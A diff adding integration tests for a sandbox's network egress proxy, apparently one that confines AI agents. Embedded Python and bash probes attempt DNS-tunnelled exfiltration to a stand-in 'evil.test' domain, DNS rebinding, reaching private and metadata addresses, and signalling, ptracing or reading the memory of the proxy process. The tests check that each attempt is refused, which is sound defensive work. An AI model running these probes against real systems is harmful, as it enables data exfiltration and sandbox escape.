@@ -397,3 +397,352 @@ fn attempts_that_succeed_outside_every_ring_reach_nothing_from_inside_one() {
         only(&net, &allowed);
     }
 }
+
+const QUESTIONS: &str = "import os, socket, struct
+def ask(name):
+    labels = b''.join(bytes([len(p)]) + p.encode() for p in name.split('.'))
+    s.send(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + labels + struct.pack('>BHH', 0, 1, 1))
+    return s.recv(4096)[3] & 15
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(5)
+s.connect(('198.18.0.1', 53))
+data = [os.urandom(20).hex() for _ in range(500)]
+print('evil', {ask(f'{one}.evil.test') for one in data})
+print('allowed', {ask(f'{one}.ok.test') for one in data})
+print('wild', {ask(f'{one}.wild.test') for one in data})
+socket.create_connection(('reached.wild.test', 80), 10).sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
+";
+
+#[test]
+fn questions_carry_nothing_out_and_only_connections_ask() {
+    let Some(net) = Internet::new() else { return };
+    for who in everybody() {
+        let place = place(who, &net);
+        place.file("ws/questions.py", QUESTIONS);
+        let _before = net.seen();
+        let allow = "{allow: ['ok.test:80', '*.wild.test:80']}";
+        let (ran, report) = run(&place, &net, &yaml(allow, "[python3, questions.py]"));
+        assert_eq!(ran.expect_code(0).stdout, "evil {3}\nallowed {3}\nwild {0}\n", "{ran:?}");
+        let network = &report["network"];
+        let all = network["refused"].as_array().unwrap();
+        let count: u64 = all.iter().filter_map(|one| one["count"].as_u64()).sum();
+        let more = network["more_refused"].as_u64().unwrap();
+        assert_eq!(count + more, 1000, "{} and {more}", all.len());
+        assert!(ran.stderr.lines().count() < 40, "{}", ran.stderr);
+        only(&net, &[DNS, "dns reached.wild.test", "packet tcp 203.0.113.10:80"]);
+    }
+}
+
+#[test]
+fn an_answer_that_changes_is_dialled_as_it_was_judged() {
+    let Some(net) = Internet::new() else { return };
+    for who in everybody() {
+        let place = place(who, &net);
+        place.file(
+            "ws/again.py",
+            "import socket, time
+good = bad = 0
+for n in range(12):
+    try:
+        s = socket.create_connection(('rebind.test', 80), 10)
+        s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
+        good += b'200 OK' in s.recv(4096)
+    except OSError: bad += 1
+    time.sleep(0.15)
+    if n == 5: time.sleep(1.1)
+print(good > 0, bad > 0)
+",
+        );
+        let _before = net.seen();
+        let allow = "{allow: ['rebind.test:80']}";
+        let (ran, report) = run(&place, &net, &yaml(allow, "[python3, again.py]"));
+        assert_eq!(ran.expect_code(0).stdout, "True True\n", "{ran:?} {report:#}");
+        assert!(refused(&report, "rebind.test", 80, "this host's own address") > 0, "{report:#}");
+        only(&net, &[DNS, "dns rebind.test", "packet tcp 203.0.113.10:80"]);
+    }
+}
+
+#[test]
+fn private_ranges_are_ring_ones_to_declare_and_never_hold_metadata() {
+    let Some(net) = Internet::new() else { return };
+    for who in everybody() {
+        let place = place(who, &net);
+        let script = "for name in ten meta own loop; do echo $name $(curl -s http://$name.test/ -m 5 --http0.9); done";
+        let network = "{allow: ['ten.test:80', 'meta.test:80', 'own.test:80', 'loop.test:80'], private: [10.0.0.0/8]}";
+        let two = yaml(network, &format!("[bash, -c, '{script}']"));
+        let (ran, _) = run(&place, &net, &two);
+        ran.expect_code(2).expect_said("agent.yaml:6").expect_said("network.private");
+        let _before = net.seen();
+        let (ran, report) = run(&place, &net, &two.replace("standard", "privileged"));
+        assert_eq!(ran.expect_code(0).stdout, "ten canary\nmeta\nown\nloop\n", "{ran:?}");
+        assert_eq!(refused(&report, "meta.test", 80, "a private address"), 1, "{report:#}");
+        only(&net, &[DNS, "dns ten.test", "dns meta.test", "dns own.test", "dns loop.test", "packet tcp 10.0.0.10:80"]);
+    }
+}
+
+/// The processes of agt-egress that this supervisor has, seen from the host.
+fn carriers(supervisor: u32) -> Vec<u32> {
+    let named = outside::alive("agt-egress").into_iter();
+    named.filter(|pid| is_below(*pid, supervisor)).collect()
+}
+
+fn status(pid: u32, key: &str) -> String {
+    let text = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
+    let line = text.lines().find_map(|line| line.strip_prefix(key)?.strip_prefix(':'));
+    line.unwrap_or_default().trim().to_owned()
+}
+
+fn is_below(mut pid: u32, top: u32) -> bool {
+    while pid > 1 {
+        if pid == top {
+            return true;
+        }
+        pid = status(pid, "PPid").parse().unwrap_or(0);
+    }
+    false
+}
+
+/// agt-egress itself, not its ring's init.
+fn carrier(supervisor: u32) -> u32 {
+    let mut found = None;
+    until("agt-egress", SOON, || {
+        found = carriers(supervisor).into_iter().find(|pid| {
+            let line = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+            line == b"agt-egress\0" && status(*pid, "Seccomp") == "2"
+        });
+        found.is_some()
+    });
+    found.unwrap()
+}
+
+const STEADY: &str = "import os, socket, sys, time
+while not os.path.exists('stop'):
+    try:
+        with socket.create_connection(('ok.test', 80), 5) as s:
+            s.settimeout(5)
+            s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
+            up = b'200 OK' in s.recv(4096)
+    except OSError: up = False
+    with open('log', 'a') as log: log.write('up\\n' if up else 'down\\n')
+    time.sleep(0.1)
+sys.exit(7)
+";
+
+/// How often an agent that runs STEADY reached its host so far.
+fn ups(place: &Place) -> usize {
+    let log = fs::read_to_string(place.dir.join("ws/log")).unwrap_or_default();
+    log.lines().filter(|line| *line == "up").count()
+}
+
+/// Starts STEADY and waits until it reaches its host.
+fn steady(place: &Place, net: &Internet) -> Child {
+    place.file("ws/steady.py", STEADY);
+    let _none = fs::remove_file(place.dir.join("ws/stop"));
+    let _none = fs::remove_file(place.dir.join("ws/log"));
+    let child = start(place, net, &yaml("{allow: ['ok.test:80']}", "[python3, steady.py]"));
+    until("its network", SOON, || ups(place) > 2);
+    child
+}
+
+fn send(pid: u32, signal: rustix::process::Signal) {
+    let pid = rustix::process::Pid::from_raw(i32::try_from(pid).unwrap()).unwrap();
+    rustix::process::kill_process(pid, signal).expect("kill");
+}
+
+/// A process that is not there, or a corpse.
+fn is_gone(pid: u32) -> bool {
+    let state = status(pid, "State");
+    state.is_empty() || state.starts_with('Z')
+}
+
+#[test]
+fn a_lost_carrier_comes_back_and_the_agent_lives_on() {
+    use rustix::process::Signal;
+    let Some(net) = Internet::new() else { return };
+    for who in everybody() {
+        let place = place(who, &net);
+        let _before = net.seen();
+        let child = steady(&place, &net);
+        let mut all = Vec::new();
+        let parent = |pid: u32| status(pid, "PPid").parse::<u32>().unwrap();
+        // Itself, the init of its ring, and the ringd that holds it; and one that stands still.
+        let victims: [(&str, Signal, fn(u32, &dyn Fn(u32) -> u32) -> u32); 4] = [
+            ("agt-egress", Signal::KILL, |pid, _| pid),
+            ("its init", Signal::KILL, |pid, parent| parent(pid)),
+            ("its ringd", Signal::KILL, |pid, parent| parent(parent(pid))),
+            ("agt-egress stopped", Signal::STOP, |pid, _| pid),
+        ];
+        for (what, signal, victim) in victims {
+            let pid = carrier(child.id());
+            all.push(pid);
+            send(victim(pid, &parent), signal);
+            until(what, Duration::from_secs(15), || is_gone(pid));
+            let before = ups(&place);
+            until(what, Duration::from_secs(15), || ups(&place) > before + 1);
+        }
+        all.push(carrier(child.id()));
+        place.file("ws/stop", "");
+        let ran = Ran::wait(child, SOON);
+        ran.expect_code(7)
+            .expect_said("agt-egress is gone: there is no network until it is back")
+            .expect_said("agt-egress is back")
+            .expect_said("net ended with exit code 7")
+            .expect_said("agt-egress was lost and came back 4 times");
+        assert_eq!(report(&place)["network"]["egress_restarts"], 4);
+        until("nothing is left", SOON, || all.iter().all(|pid| is_gone(*pid)));
+        only(&net, &[DNS, "dns ok.test", "packet tcp 203.0.113.10:80"]);
+    }
+}
+
+#[test]
+fn the_death_of_the_supervisor_is_that_of_its_carrier() {
+    let Some(net) = Internet::new() else { return };
+    for who in everybody() {
+        let place = place(who, &net);
+        let mut child = steady(&place, &net);
+        let top = child.id();
+        let pids = fs::read_dir("/proc").unwrap().flatten();
+        let pids = pids.filter_map(|entry| entry.file_name().to_str()?.parse::<u32>().ok());
+        let all: Vec<u32> = pids.filter(|pid| is_below(*pid, top)).collect();
+        assert!(all.contains(&carrier(top)) && all.len() >= 6, "{all:?}");
+        child.kill().unwrap();
+        child.wait().unwrap();
+        until("all of it is gone", SOON, || all.iter().all(|pid| is_gone(*pid)));
+    }
+}
+
+#[test]
+fn garbage_and_crowds_end_no_carrier() {
+    let Some(net) = Internet::new() else { return };
+    let long = std::env::var_os("AGT_LONG").is_some();
+    let count = if long { "1000000" } else { "10000" };
+    for who in everybody() {
+        let place = place(who, &net);
+        let source = outside::sources().join("programs/net/garbage.py");
+        place.file("ws/garbage.py", fs::read(source).unwrap());
+        let _before = net.seen();
+        let allow = "{allow: ['ok.test:80', 'ok.test:443', 'ok.test:9000']}";
+        let child = start(&place, &net, &yaml(allow, &format!("[python3, garbage.py, '{count}']")));
+        let ran = Ran::wait(child, if long { 60 * MOST } else { MOST });
+        let want = "before True\nafter garbage True\nafter a crowd True\n";
+        assert_eq!(ran.expect_code(0).stdout, want, "{ran:?}");
+        let report = report(&place);
+        assert_eq!(report["network"]["egress_restarts"], 0, "{}", ran.stderr);
+        assert!(refused(&report, "", 3128, "a limit") > 0, "{:#}", report["network"]);
+        only(&net, &[DNS, "dns ok.test", "packet tcp 203.0.113.10:80", "packet tcp 203.0.113.10:443",
+            "packet tcp 203.0.113.10:9000"]);
+    }
+}
+
+const NEIGHBOUR: &str = "import ctypes, os, socket, time
+while not os.path.exists('pid'): time.sleep(0.05)
+time.sleep(0.1)
+pid = int(open('pid').read())
+names = [open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') if p.isdigit()]
+print('seen', any('agt-egress' in name for name in names), os.path.exists(f'/proc/{pid}'))
+def errno(what, *args):
+    try: what(*args)
+    except OSError as error: return type(error).__name__
+    return 'done'
+print('signal', errno(os.kill, pid, 0), errno(os.kill, pid, 9))
+libc = ctypes.CDLL(None, use_errno=True)
+print('ptrace', libc.ptrace(16, pid, 0, 0), 'pidfd', libc.syscall(434, pid, 0))
+print('memory', libc.syscall(310, pid, 0, 0, 0, 0, 0))
+lines = open('/proc/net/unix').read().splitlines()[1:] if os.access('/proc/net/unix', os.R_OK) else []
+print('named sockets', [line for line in lines if len(line.split()) > 7])
+";
+
+#[test]
+fn the_carrier_holds_nothing_and_cannot_be_seen_from_inside() {
+    let Some(net) = Internet::new() else { return };
+    for who in everybody() {
+        let place = place(who, &net);
+        place.file("ws/neighbour.py", NEIGHBOUR);
+        let _none = fs::remove_file(place.dir.join("ws/pid"));
+        let network = "{allow: ['ok.test:80'], listen: [3000], host_ports: [4000]}";
+        let child = start(&place, &net, &yaml(network, "[python3, neighbour.py]"));
+        let pid = carrier(child.id());
+        let link = |name: &str| fs::read_link(format!("/proc/{pid}/{name}")).unwrap();
+        for (key, value) in [("Seccomp", "2"), ("NoNewPrivs", "1"), ("Groups", ""), ("Threads", "1")] {
+            assert_eq!(status(pid, key), value, "{key}");
+        }
+        for key in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
+            assert_eq!(status(pid, key), "0000000000000000", "{key}");
+        }
+        let agent = fs::metadata(place.dir.join("ws")).unwrap();
+        let uid: u32 = status(pid, "Uid").split_whitespace().next().unwrap().parse().unwrap();
+        match who {
+            Who::Root => assert!(uid != 0 && uid != std::os::unix::fs::MetadataExt::uid(&agent), "{uid}"),
+            Who::User => assert_eq!(uid, outside::USER),
+        }
+        // The host's network, and nothing else of the host.
+        let net_of = |pid: u32| fs::read_link(format!("/proc/{pid}/ns/net")).unwrap();
+        assert_eq!(net_of(pid), net_of(child.id()));
+        for name in ["ns/mnt", "ns/pid", "ns/user", "ns/ipc", "ns/uts", "ns/cgroup"] {
+            let host = fs::read_link(format!("/proc/{}/{name}", child.id())).unwrap();
+            assert_ne!(link(name), host, "{name}");
+        }
+        let mut files = Vec::new();
+        for dir in ["", "dev"] {
+            let entries = fs::read_dir(format!("/proc/{pid}/root/{dir}")).unwrap().flatten();
+            files.extend(entries.map(|entry| entry.file_name().into_string().unwrap()));
+        }
+        files.sort();
+        assert_eq!(files, [".empty", "agt-egress", "dev", "null", "random", "urandom"]);
+        assert_eq!(fs::read(format!("/proc/{pid}/environ")).unwrap(), b"");
+        let sockets = fs::read_to_string(format!("/proc/{pid}/net/unix")).unwrap();
+        let control = link("fd/0");
+        let mut inets = 0;
+        for entry in fs::read_dir(format!("/proc/{pid}/fd")).unwrap().flatten() {
+            let to = fs::read_link(entry.path()).unwrap();
+            let to = to.to_str().unwrap();
+            let inode = to.strip_prefix("socket:[").and_then(|rest| rest.strip_suffix(']'));
+            let known = inode.is_some_and(|inode| sockets.contains(&format!(" {inode}")));
+            let is_control = Some(to) == control.to_str();
+            inets += usize::from(inode.is_some() && !known);
+            // The readiness of its own signals is a pair of its own.
+            let files = ["/dev/null", "/dev/urandom", "anon_inode:[eventpoll]", "anon_inode:[eventfd]"];
+            assert!(is_control || (inode.is_some() && !known) || files.contains(&to), "{to}\n{sockets}");
+        }
+        assert!(inets >= 5 + 16, "{inets}");
+        // A message to the ring: the number of that process on the host.
+        place.file("ws/pid", pid.to_string());
+        let ran = Ran::wait(child, SOON);
+        let want = "seen False False\nsignal ProcessLookupError ProcessLookupError\nptrace -1 pidfd -1\n\
+            memory -1\nnamed sockets []\n";
+        assert!(ran.expect_code(0).stdout.starts_with(want), "{ran:?}");
+        assert_eq!(report(&place)["network"]["egress_restarts"], 0);
+    }
+}
+
+#[test]
+fn a_carrier_serves_its_own_ring_only() {
+    let Some(net) = Internet::new() else { return };
+    for who in everybody() {
+        let place = place(who, &net);
+        let first = steady(&place, &net);
+        let ask = "import socket
+for to in [('198.18.0.1', 3128), ('198.18.1.0', 80), ('198.18.0.1', 53)]:
+    try:
+        s = socket.create_connection(to, 3); s.settimeout(2)
+        s.sendall(b'CONNECT ok.test:80 HTTP/1.1\\r\\n\\r\\n')
+        print(to[1], s.recv(12))
+    except OSError as error: print(to[1], type(error).__name__)
+";
+        let second = self::place(who, &net);
+        second.file("ws/ask.py", ask);
+        let _before = net.seen();
+        // A ring without a network, one with another, and the host itself.
+        let (ran, _) = run(&second, &net, &yaml("{}", "[python3, ask.py]"));
+        assert_eq!(ran.expect_code(0).stdout, "3128 OSError\n80 OSError\n53 OSError\n", "{ran:?}");
+        let (ran, _) = run(&second, &net, &yaml("{allow: ['other.test:8080']}", "[python3, ask.py]"));
+        let said_there = "3128 b'HTTP/1.1 403'\n80 ConnectionRefusedError\n53 TimeoutError\n";
+        assert_eq!(ran.expect_code(0).stdout, said_there, "{ran:?}");
+        let script = second.dir.join("ws/ask.py");
+        let host = said(&net, who, &["/usr/bin/python3", script.to_str().unwrap()]);
+        // Out there those addresses are anybody's: the world's canaries answer, no proxy does.
+        assert_eq!(host, "3128 b'canary\\n'\n80 b'canary\\n'\n53 b'canary\\n'\n");
+        place.file("ws/stop", "");
+        Ran::wait(first, SOON).expect_code(7);
+    }
+}
